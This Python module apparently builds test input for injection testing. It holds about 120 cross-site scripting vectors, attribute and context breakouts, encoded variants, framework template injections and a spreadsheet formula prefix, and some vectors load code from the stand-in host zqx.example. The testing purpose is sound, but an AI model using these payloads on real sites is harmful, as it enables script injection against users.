"""One hundred and twenty ways to get a script run, a style read or a request sent by words in a page.

``{0}`` becomes the number of the column and of the vector, so that what ran or was shown says where it came from. They are the
families of OWASP's and PortSwigger's cheat sheets: tags and handlers, ways out of attributes, of scripts and of text that browsers
read in their own way, addresses, frames, SVG and MathML, styles, broken and nested tags, encodings, and templates of the frameworks
that pages of this kind are made with.
"""

from __future__ import annotations

TAGS = """
<script>zqx({0})</script>
<ScRiPt>zqx({0})</sCrIpT>
<script >zqx({0})</script >
<script/x>zqx({0})</script>
<script src=//zqx.example/{0}></script>
<script src=data:text/javascript,zqx({0})></script>
<script type=module>zqx({0})</script>
<img src=zqx onerror=zqx({0})>
<img src=zqx onerror="zqx({0})">
<img/src=zqx/onerror=zqx({0})>
<img src=zqx:x onerror=zqx`{0}`>
<IMG SRC=zqx ONERROR=zqx({0})>
<img srcset=zqx onerror=zqx({0})>
<image src=zqx onerror=zqx({0})>
<svg onload=zqx({0})>
<svg/onload=zqx({0})>
<svg><script>zqx({0})</script></svg>
<svg><script href=data:,zqx({0}) />
<svg><animate onbegin=zqx({0}) attributeName=x dur=1s>
<svg><set onbegin=zqx({0}) attributeName=x to=y>
<svg><a xlink:href=javascript:zqx({0})><text y=9>zqx</text></a></svg>
<svg><use href="data:image/svg+xml,zqx({0})#x"/></svg>
<svg><foreignObject><img src=zqx onerror=zqx({0})></foreignObject></svg>
<svg><title><img src=zqx onerror=zqx({0})></title></svg>
<svg><desc><script>zqx({0})</script></desc></svg>
<svg><style><img src=zqx onerror=zqx({0})></style></svg>
<math href=javascript:zqx({0})>zqx</math>
<math><mtext><img src=zqx onerror=zqx({0})></mtext></math>
<body onload=zqx({0})>
<body onpageshow=zqx({0})>
<video src=zqx onerror=zqx({0})></video>
<video><source src=zqx onerror=zqx({0})></video>
<audio src=zqx onerror=zqx({0})></audio>
<details open ontoggle=zqx({0})>zqx</details>
<input autofocus onfocus=zqx({0})>
<textarea autofocus onfocus=zqx({0})></textarea>
<select autofocus onfocus=zqx({0})></select>
<button autofocus onfocus=zqx({0})>zqx</button>
<a autofocus tabindex=0 onfocus=zqx({0})>zqx</a>
<a href=javascript:zqx({0})>zqx</a>
<a href="java&#10;script:zqx({0})">zqx</a>
<a href=" javascript:zqx({0})">zqx</a>
<a href=data:text/html,<script>zqx({0})</script>>zqx</a>
<iframe src=javascript:zqx({0})></iframe>
<iframe srcdoc="<script>parent.zqx({0})</script>"></iframe>
<iframe src=//zqx.example/{0}></iframe>
<iframe onload=zqx({0})></iframe>
<object data=javascript:zqx({0})></object>
<object data=//zqx.example/{0}></object>
<embed src=javascript:zqx({0})>
<embed src=//zqx.example/{0}>
<form action=javascript:zqx({0})><button>zqx</button></form>
<button formaction=javascript:zqx({0})>zqx</button>
<isindex action=javascript:zqx({0}) type=submit>
<base href=//zqx.example/{0}/>
<meta http-equiv=refresh content="0;url=javascript:zqx({0})">
<meta http-equiv=refresh content="0;url=//zqx.example/{0}">
<link rel=stylesheet href=//zqx.example/{0}>
<link rel=preload as=script href=//zqx.example/{0}>
<style>@import'//zqx.example/{0}';</style>
<style>*{{background:url(//zqx.example/{0})}}</style>
<p style="background:url(//zqx.example/{0})">zqx</p>
<p style=animation-name:x onanimationstart=zqx({0})>zqx</p>
<marquee onstart=zqx({0})>zqx</marquee>
<table background=//zqx.example/{0}><tr><td>zqx</table>
<zqx onpointerenter=zqx({0})>zqx</zqx>
<zqx id=x tabindex=1 onfocus=zqx({0})></zqx>
<dialog open onclose=zqx({0})>zqx</dialog>
<template><script>zqx({0})</script></template>
<noscript><p title="</noscript><img src=zqx onerror=zqx({0})>">
""".strip().splitlines()
WAYS_OUT = """
"><script>zqx({0})</script>
'><script>zqx({0})</script>
"><img src=zqx onerror=zqx({0})>
'><img src=zqx onerror=zqx({0})>
"><svg/onload=zqx({0})>
" onfocus=zqx({0}) autofocus x="
' onfocus=zqx({0}) autofocus x='
 onfocus=zqx({0}) autofocus x=
` onfocus=zqx({0}) autofocus x=`
" style="background:url(//zqx.example/{0})" x="
</title><script>zqx({0})</script>
</textarea><script>zqx({0})</script>
</style><script>zqx({0})</script>
</script><script>zqx({0})</script>
</script><svg/onload=zqx({0})>
</select><img src=zqx onerror=zqx({0})>
</option></select><svg/onload=zqx({0})>
</noscript><svg/onload=zqx({0})>
</template><svg/onload=zqx({0})>
</iframe><svg/onload=zqx({0})>
</svg><svg/onload=zqx({0})>
--><script>zqx({0})</script>
--!><svg/onload=zqx({0})>
]]><svg/onload=zqx({0})>
<!--<img src="--><img src=zqx onerror=zqx({0})>">
<![CDATA[<script>zqx({0})</script>]]>
<<script>zqx({0})//<</script>
<scr<script>ipt>zqx({0})</scr</script>ipt>
<img src="zqx` `onerror=zqx({0})">
<p title="</p><svg/onload=zqx({0})>">
';zqx({0});'
";zqx({0});"
\\';zqx({0});//
-zqx({0})-
${{zqx({0})}}
`${{zqx({0})}}`
{{{{zqx({0})}}}}
{{{{constructor.constructor('zqx({0})')()}}}}
{{% print zqx({0}) %}}
<%= zqx({0}) %>
#{{zqx({0})}}
[[${{zqx({0})}}]]
&lt;script&gt;zqx({0})&lt;/script&gt;
&#60;svg/onload=zqx({0})&#62;
%3Csvg/onload=zqx({0})%3E
\\u003csvg/onload=zqx({0})\\u003e
\\x3csvg/onload=zqx({0})\\x3e
+ADw-script+AD4-zqx({0})+ADw-/script+AD4-
javascript:zqx({0})
data:text/html,<svg/onload=zqx({0})>
""".strip().splitlines()
VECTORS = tuple(one for pair in zip(TAGS, WAYS_OUT, strict=False) for one in pair) + tuple(TAGS[len(WAYS_OUT) :])
BEGINNINGS = (
    "",
    "=zqx({0})|' /C'!A0 ",
    "#zqx({0}) $zqx$ ] #[zqx] \\ ",
    "[zqx](javascript:zqx({0})) <https://zqx.example> *zqx* ",
)
"""What comes before: nothing, a formula, Typst, Markdown."""
BEGINS = 999
"""Stands for the number of the vector in a beginning."""
AT_MOST = 340
"""So long are words at most, where there is room: five or six vectors."""
TINY = ("<zqx>", "=zqx", "#zqx(", "'\"zqx")
ADDRESS = '"<svg/onload=zqx({0})>"@zqx{1}.example'
"""An e-mail address by the rules of e-mail, and of Django."""
LINK = "https://zqx.example/\"'><svg/onload=zqx({0})>"


def words_for(column: int, turn: int, room: int) -> str:
    """Words for one row of a column: a beginning and as many vectors as there is room for, other ones for each row."""
    words = _numbered(BEGINNINGS[turn % len(BEGINNINGS)], column, BEGINS)
    first = turn * 7 + column * 3
    for step in range(len(VECTORS)):
        vector = _numbered(VECTORS[(first + step) % len(VECTORS)], column, (first + step) % len(VECTORS))
        if len(words) + len(vector) > min(room, AT_MOST):
            if len(words) > 12:
                break
            continue
        words += vector
    return words if 0 < len(words) <= room else TINY[turn % len(TINY)][:room]


def _numbered(words: str, column: int, vector: int) -> str:
    return words.format(f"{column}.{vector}")
